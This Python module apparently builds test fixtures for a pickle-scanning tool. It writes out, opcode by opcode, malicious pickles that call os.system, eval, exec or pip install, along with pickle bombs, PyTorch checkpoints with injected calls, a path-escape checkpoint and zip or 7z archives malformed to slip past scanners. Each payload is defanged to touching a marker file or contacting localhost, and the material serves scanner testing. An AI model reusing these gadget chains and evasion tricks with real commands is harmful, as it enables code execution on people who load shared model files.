"""Hostile files, built opcode by opcode: nothing of them is ever unpickled, and what they would run is harmless.

They are those of the corpus under the same names: pickles that import and call, each opcode and protocol by which a
global can be named, bombs that hang an unpickler, and the same in archives that a scanner may not look into. Payloads
of picklescan's test data are distinguished by the function that they name; the arguments are our own. Wherever the call
can, it creates `EVIL_MARKER` in the working folder, if its library is installed; `NO_MARKER` lists the rest. No payload
reaches another machine.
"""

from __future__ import annotations

import io
import pickle
import pickletools
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

MARKER = "EVIL_MARKER"
TOUCH = f"touch {MARKER}"
OPEN = f"open('{MARKER}', 'w')"
UNUSED = "harmless"  # where the call fails before it reads the argument
LOCAL = ("127.0.0.1", 9)  # the discard port of this machine


# ---- Opcodes


def text(word: str) -> bytes:
    """SHORT_BINUNICODE."""
    data = word.encode()
    return b"\x8c" + bytes([len(data)]) + data


def arguments(*values: Any) -> bytes:
    """A tuple of plain values, as pickle writes it, without its head and end."""
    return pickle.dumps(values, 3)[2:-1]


def by_stack(module: str, name: str) -> bytes:
    """STACK_GLOBAL with memoized names, as protocol 4 has it."""
    return text(module) + b"\x94" + text(name) + b"\x94\x93\x94"


def by_line(module: str, name: str) -> bytes:
    """GLOBAL, as protocols 0 to 3 have it."""
    return f"c{module}\n{name}\n".encode()


def framed(body: bytes) -> bytes:
    """A pickle of protocol 4 in one frame."""
    return b"\x80\x04\x95" + struct.pack("<Q", len(body) + 1) + body + b"."


def call(module: str, name: str, *values: Any) -> bytes:
    """A pickle of protocol 4 that calls a function."""
    return framed(by_stack(module, name) + arguments(*values) + b"R")


def old_call(module: str, name: str, *words: str) -> bytes:
    """A pickle of protocol 0 that calls a function with texts."""
    return by_line(module, name) + b"p0\n(" + b"".join(b"V%s\n" % word.encode() for word in words) + b"tR."


def wanted(data: bytes) -> list[str]:
    """The globals that a pickle names, by Python's own list of its opcodes; nothing is run."""
    said, memo, found = [], {}, []
    for opcode, value, _at in pickletools.genops(data):
        if opcode.name in ("GLOBAL", "INST"):
            found.append(str(value).replace(" ", "."))
        elif opcode.name == "STACK_GLOBAL":
            found.append(".".join(map(str, said[-2:])))
        elif opcode.name in ("MEMOIZE", "PUT", "BINPUT") and said:
            memo[len(memo) if value is None else value] = said[-1]
        elif opcode.name in ("GET", "BINGET"):
            said.append(memo.get(value))
        elif isinstance(value, str):
            said.append(value)
    return found


# ---- Pickles by themselves

EVAL = call("builtins", "eval", OPEN)
NESTED = old_call("posix", "system", TOUCH)  # as bytes, for functions that unpickle them
HASH_BOMB = (
    b"\x80\x02)q\x00"
    + b"".join(b"h%ch%c\x86q%c" % (at, at, at + 1) for at in range(60))
    + b"K\x01\x86}h\x3cK\x01s."
)
_CODE = (
    0,
    0,
    0,
    0,
    3,
    0,
    b"\x97\x00",
    ("harmless", None),
    ("print",),
    (),
    "<code>",
    "<module>",
    "<module>",
    1,
    b"",
)
_PIP = (
    "install",
    "some_malicious_package.invalid",
    "--no-index",
    "--log",
    MARKER,
    "--no-input",
    "-q",
    "-q",
    "-q",
    "--exists-action",
    "i",
    "--isolated",
)
PICKLES: dict[str, tuple[str, bytes]] = {
    "plain-pkl": ("plain.pkl", framed(b"}\x94(" + text("w") + b"K\x01" + text("x") + by_stack("posix", "system")
                                      + arguments(TOUCH) + b"Ru")),
    "proto0-bin": ("proto0.bin", b"(lp0\n" + old_call("posix", "system", TOUCH).removesuffix(b".") + b"a."),
    "obj-pkl": ("obj.pkl", b"\x80\x02(" + by_line("os", "system") + text(TOUCH) + b"o."),
    "torch-gadget-pkl": ("torch_gadget.pkl",
                         b"\x80\x02" + by_line("torch.serialization", "load") + arguments("/a/b") + b"R."),
    "frame-bomb-pkl": ("frame_bomb.pkl", b"\x80\x04\x95" + struct.pack("<Q", 1 << 60) + b"N."),
    "hash-bomb-pkl": ("hash_bomb.pkl", HASH_BOMB),
    "picklescan-ghsa-3gf5-cxq9-w223-pkl": (
        "a.pkl", call("idlelib.pyshell", "ModifiedInterpreter.runcode", {}, UNUSED)),
    "picklescan-ghsa-4675-36f9-wf6r-pkl": ("a.pkl", call("ctypes", "CDLL", None)),
    "picklescan-ghsa-49gj-c84q-6qm9-pkl": ("a.pkl", call("cProfile", "run", OPEN)),
    "picklescan-ghsa-4whj-rm5r-c2v8-pkl": (
        "a.pkl", call("torch.utils.bottleneck.__main__", "run_autograd_prof", OPEN, {})),
    "picklescan-ghsa-6vqj-c2q5-j97w-pkl": ("a.pkl", call("profile", "Profile.runctx", {}, UNUSED, {}, {})),
    "picklescan-ghsa-7cq8-mj8x-j263-pkl": (
        "a.pkl", call("idlelib.autocomplete", "AutoComplete.fetch_completions", {}, UNUSED, 0)),
    "picklescan-ghsa-84r2-jw7c-4r5q-pkl": (
        "a.pkl", framed(by_stack("operator", "methodcaller") + arguments("system", TOUCH) + b"R"
                        + by_stack("pydoc", "locate") + arguments("os") + b"R\x85R")),
    "picklescan-ghsa-8r4j-24qv-fmq9-pkl": ("a.pkl", call("idlelib.calltip", "Calltip.fetch_tip", {}, UNUSED)),
    "picklescan-ghsa-9w88-8rmg-7g2p-pkl": ("a.pkl", call("cProfile", "runctx", OPEN, None, None)),
    "picklescan-ghsa-cj3c-v495-4xqh-pkl": ("a.pkl", call("code", "InteractiveInterpreter.runcode", {}, UNUSED)),
    "picklescan-ghsa-f54q-57x4-jg88-pkl": ("a.pkl", call("lib2to3.pgen2.grammar", "Grammar.loads", {}, b"")),
    "picklescan-ghsa-fqq6-7vqf-w3fg-pkl": ("a.pkl", call("doctest", "debug_script", OPEN, True)),
    "picklescan-ghsa-g38g-8gr9-h9xp-aix-support-pkl": ("a.pkl", call("_aix_support", "_read_cmd_output", TOUCH)),
    "picklescan-ghsa-g38g-8gr9-h9xp-osx-support-pkl": ("a.pkl", call("_osx_support", "_read_output", TOUCH)),
    "picklescan-ghsa-g38g-8gr9-h9xp-test-pkl": (
        "a.pkl", b"\x80\x04" + text("test.support.script_helper") + text("assert_python_ok") + b"\x93"
        + arguments("-c", OPEN) + b"R."),
    "picklescan-ghsa-h3qp-7fh3-f8h4-pkl": (
        "a.pkl", call("torch.utils.data.datapipes.utils.decoder", "basichandlers", "pickle", NESTED)),
    "picklescan-ghsa-jgw4-cr84-mqxg-bin": (
        "a.bin", call("asyncio.unix_events", "_UnixSubprocessTransport._start", {}, TOUCH, True, None, None, None, 0)),
    "picklescan-ghsa-m273-6v24-x4m4-pkl": ("a.pkl", call("distutils.file_util", "write_file", MARKER, ["harmless"])),
    "picklescan-ghsa-p9w7-82w4-7q8m-pkl": (
        "a.pkl", call("lib2to3.pgen2.pgen", "ParserGenerator.make_label", None, {}, '""')),
    "picklescan-ghsa-r8g5-cgf2-4m4m-pkl": ("a.pkl", call("numpy.f2py.crackfortran", "getlincoef", OPEN, [])),
    "picklescan-ghsa-vr7h-p6mm-wpmh-pkl": (
        "a.pkl", call("torch.jit.unsupported_tensor_ops", "execWrapper", OPEN, {}, {})),
    "picklescan-ghsa-vvpj-8cmc-gx39-pkl": (
        "a.pkl", framed(by_stack("pkgutil", "resolve_name") + arguments("os:system") + b"R" + arguments(TOUCH) + b"R")),
    "picklescan-ghsa-xp4f-hrf8-rxw7-pkl": ("a.pkl", call("ensurepip", "_run_pip", OPEN)),
    # The memo has no entry 3, and the name of a global is a number: what reads the names only stops with KeyError.
    "picklescan-keyerror-exploit-pkl": (
        "a.pkl", b"\x80\x04" + by_line("os", "system") + b"V%s\n\x85R0" % TOUCH.encode() + text("os")
        + b"\x94h\x03h\x00\x93KB."),
    # Both names of the global come from the memo, and white space follows the end.
    "picklescan-malicious-invalid-bytes-pkl": (
        "a.pkl", b"".join(b"V%s\np%d\n0" % (word, at) for word, at in
                          ((b"os", 2), (b"system", 3), (b"torch", 0), (b"LongStorage", 1)))
        + b"g2\ng3\n\x93(V%s\ntR.\n\n\t\t" % TOUCH.encode()),
    "picklescan-malicious1-v0-pkl": ("a.pkl", old_call("__builtin__", "eval", OPEN)),
    "picklescan-malicious1-v4-pkl": ("a.pkl", EVAL),
    "picklescan-malicious10-pkl": ("a.pkl", b'(S"%s"\ni__builtin__\nexec\n.' % OPEN.encode()),
    "picklescan-malicious12-pkl": (
        "a.pkl", b"\x80\x04" + by_stack("operator", "attrgetter") + arguments("system") + b"R"
        + by_stack("builtins", "__import__") + arguments("os") + b"R\x85R" + arguments(TOUCH) + b"R."),
    "picklescan-malicious13b-pkl": ("a.pkl", call("_pickle", "loads", NESTED)),
    "picklescan-malicious15a-pkl": (
        "a.pkl", b"\x80\x02" + by_line("__builtin__", "getattr") + by_line("bdb", "Bdb") + b"q\x01" + text("run")
        + b"\x86Rh\x01)\x81}" + text("skip") + b"Nsb" + text(OPEN) + b"\x86R."),
    "picklescan-malicious16-pkl": (
        "a.pkl", by_line("pip", "main") + b"((l" + b"".join(b"V%s\na" % word.encode() for word in _PIP) + b"tR."),
    "picklescan-malicious18-pkl": ("a.pkl", call("pydoc", "pipepager", "", TOUCH)),
    "picklescan-malicious2-v3-pkl": (
        "a.pkl", b"\x80\x03" + by_line("posix", "system") + arguments(TOUCH) + b"R."),
    "picklescan-malicious20-pkl": (
        "a.pkl", call("venv", "create", MARKER, False, False, True, False, f"$({TOUCH})")),
    "picklescan-malicious22-pkl": (
        "a.pkl", call("numpy.testing._private.utils", "runstring", OPEN, {})),
    "picklescan-malicious3-pkl": ("a.pkl", old_call("httplib", "HTTPSConnection", "x.invalid")),
    "picklescan-malicious7-pkl": ("a.pkl", call("socket", "create_connection", LOCAL)),
    "picklescan-malicious9-pkl": ("a.pkl", call("sys", "exit", 0)),
    "picklescan-types-codetype-pkl": ("a.pkl", b"\x80\x04" + by_stack("types", "CodeType") + arguments(*_CODE) + b"R."),
}  # fmt: skip


# ---- The same in containers


def seven_zip(data: bytes, name: str) -> bytes:
    """An archive of 7-Zip with one file that is not compressed."""
    sizes = bytes([len(data)])
    names = name.encode("utf-16-le") + b"\0\0"
    packed = b"\x06\x00\x01\x09" + sizes + b"\x00"
    unpacked = b"\x07\x0b\x01\x00\x01\x01\x00\x0c" + sizes + b"\x00"
    files = b"\x05\x01\x11" + bytes([len(names) + 1]) + b"\x00" + names + b"\x00"
    header = b"\x01\x04" + packed + unpacked + b"\x00" + files + b"\x00"
    start = struct.pack("<QQI", len(data), len(header), zlib.crc32(header))
    return b"7z\xbc\xaf'\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + data + header


def zipped(name: str, data: bytes, *, flags: int = 0, crc: bool = True) -> bytes:
    """An archive with one member; with flags that its bytes do not fit, or another checksum."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr(zipfile.ZipInfo(name), data)
    raw = bytearray(buffer.getvalue())
    central = raw.index(b"PK\x01\x02")
    for flag_at, crc_at in ((6, 14), (central + 8, central + 16)):
        struct.pack_into("<H", raw, flag_at, flags)
        raw[crc_at] ^= not crc
    return bytes(raw)


def object_array(*, calls: bool) -> bytes:
    """An .npy whose elements are a pickle; with a call among them, or plain numbers."""
    import numpy as np

    buffer = io.BytesIO()
    np.lib.format.write_array(buffer, np.array([1, 2], object), allow_pickle=True)
    raw = buffer.getvalue()
    begin = 10 + struct.unpack("<H", raw[8:10])[0]
    if not calls:
        return raw
    fetch = by_stack("ssl", "get_server_certificate") + arguments(LOCAL) + b"R"
    body = raw[begin + len(framed(b"")) - 1 : -1].replace(b"K\x01K\x02e", b"K\x01" + fetch + b"e")
    assert fetch in body, "another pickler"
    return raw[:begin] + framed(body)


def _object_npz(path: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in ("a", "b"):
            archive.writestr(f"{name}.npy", object_array(calls=False))


def _with_call(pickled: bytes, module: str, name: str, *values: Any) -> bytes:
    """A pickle of a dict with an item more, whose value is a call."""
    item = text("x") + by_line(module, name) + arguments(*values) + b"R"
    assert pickled.endswith(b"u."), "another pickler"
    return pickled[:-2] + item + b"u."


def _torch_zip(path: Path) -> None:
    import torch

    buffer = io.BytesIO()
    torch.save({"w": torch.arange(4.0), "v": torch.ones(2)}, buffer)
    with zipfile.ZipFile(buffer) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as new:
        for name in old.namelist():
            data = old.read(name)
            new.writestr(
                name, _with_call(data, "posix", "system", TOUCH) if name.endswith("data.pkl") else data
            )


def _torch_stream(path: Path) -> None:
    import torch

    buffer = io.BytesIO()
    torch.save({"w": torch.arange(2.0), "v": torch.ones(2)}, buffer, _use_new_zipfile_serialization=False)
    data = buffer.getvalue()
    end = data.index(b"u.", data.index(b"_rebuild_tensor_v2")) + 2
    begin = data.rindex(b"\x80\x02}", 0, end)
    evil = _with_call(data[begin:end], "__builtin__", "exec", OPEN)
    path.write_bytes(data[:begin] + evil + data[end:])


def _deflated(path: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "archive/data.pkl", b"\x80\x02" + by_line("posix", "system") + arguments(TOUCH) + b"R."
        )
        archive.writestr("archive/version", "3\n")


def _dcp(folder: Path, change: Callable[[Any], None]) -> None:
    """A folder of torch.distributed.checkpoint whose `.metadata` was changed as an object, and pickled again."""
    import torch
    import torch.distributed.checkpoint as dcp

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        dcp.save({"w": torch.arange(12.0), "v": torch.ones(3)}, checkpoint_id=str(folder), no_dist=True)
    found = pickle.loads((folder / ".metadata").read_bytes())
    change(found)
    (folder / ".metadata").write_bytes(pickle.dumps(found))


def _long(metadata: Any) -> None:
    for info in metadata.storage_data.values():
        info.length = 1 << 50


def _outside(metadata: Any) -> None:
    for info in metadata.storage_data.values():
        info.relative_path = f"../outside/{info.relative_path}"


class _Call:
    """Pickled as the call of `posix.system`, without being one."""

    def __reduce__(self) -> tuple[Any, ...]:
        import posix

        return posix.system, (TOUCH,)


def _planned(metadata: Any) -> None:
    metadata.planner_data = {"w": _Call()}


def _dcp_outside(folder: Path) -> None:
    _dcp(folder, _outside)
    (folder.parent / "outside").mkdir()
    for file in folder.glob("*.distcp"):
        (folder.parent / "outside" / file.name).write_bytes(file.read_bytes())


def _bytes(data: bytes) -> Callable[[Path], None]:
    return lambda path: _write(path, data)


def _write(path: Path, data: bytes) -> None:
    path.write_bytes(data)


# Name → the file or folder, and how it is made.
FILES: dict[str, tuple[str, Callable[[Path], None]]] = {
    **{name: (file, _bytes(data)) for name, (file, data) in PICKLES.items()},
    "picklescan-dns-exfiltration-npy": ("a.npy", lambda path: _write(path, object_array(calls=True))),
    "picklescan-object-array-npy": ("a.npy", lambda path: _write(path, object_array(calls=False))),
    "picklescan-object-arrays-compressed-npz": ("a.npz", _object_npz),
    "picklescan-malicious1-0x1-zip": ("a.zip", _bytes(zipped("model/config.pkl", EVAL, flags=0x1))),
    "picklescan-malicious1-0x40-zip": ("a.zip", _bytes(zipped("model/config.pkl", EVAL, flags=0x40))),
    "picklescan-malicious1-crc-zip": ("a.zip", _bytes(zipped("data.pkl", EVAL, crc=False))),
    "picklescan-malicious1-7z": ("a.7z", _bytes(seven_zip(EVAL, "data.pkl"))),
    "os-system-pt": ("os_system.pt", _torch_zip),
    "builtins-exec-legacy-pt": ("builtins_exec_legacy.pt", _torch_stream),
    "deflated-pt": ("deflated.pt", _deflated),
    "dcp-length-bomb": ("dcp_length_bomb", lambda path: _dcp(path, _long)),
    "dcp-path-escape": ("dcp_path_escape", _dcp_outside),
    "dcp-planner-data": ("dcp_planner_data", lambda path: _dcp(path, _planned)),
}
# What leaves no file if it is run: a call that cannot, one that fails before it could, or no call at all.
NO_MARKER = frozenset(
    (
        "torch-gadget-pkl", "frame-bomb-pkl", "hash-bomb-pkl", "dcp-length-bomb", "dcp-path-escape",
        *(f"picklescan-{name}" for name in (
            "ghsa-3gf5-cxq9-w223-pkl", "ghsa-4675-36f9-wf6r-pkl", "ghsa-6vqj-c2q5-j97w-pkl", "ghsa-7cq8-mj8x-j263-pkl",
            "ghsa-8r4j-24qv-fmq9-pkl", "ghsa-cj3c-v495-4xqh-pkl", "ghsa-f54q-57x4-jg88-pkl", "ghsa-p9w7-82w4-7q8m-pkl",
            "malicious3-pkl", "malicious7-pkl", "malicious9-pkl", "types-codetype-pkl",
            "dns-exfiltration-npy", "object-array-npy", "object-arrays-compressed-npz",
        )),
    )
)  # fmt: skip
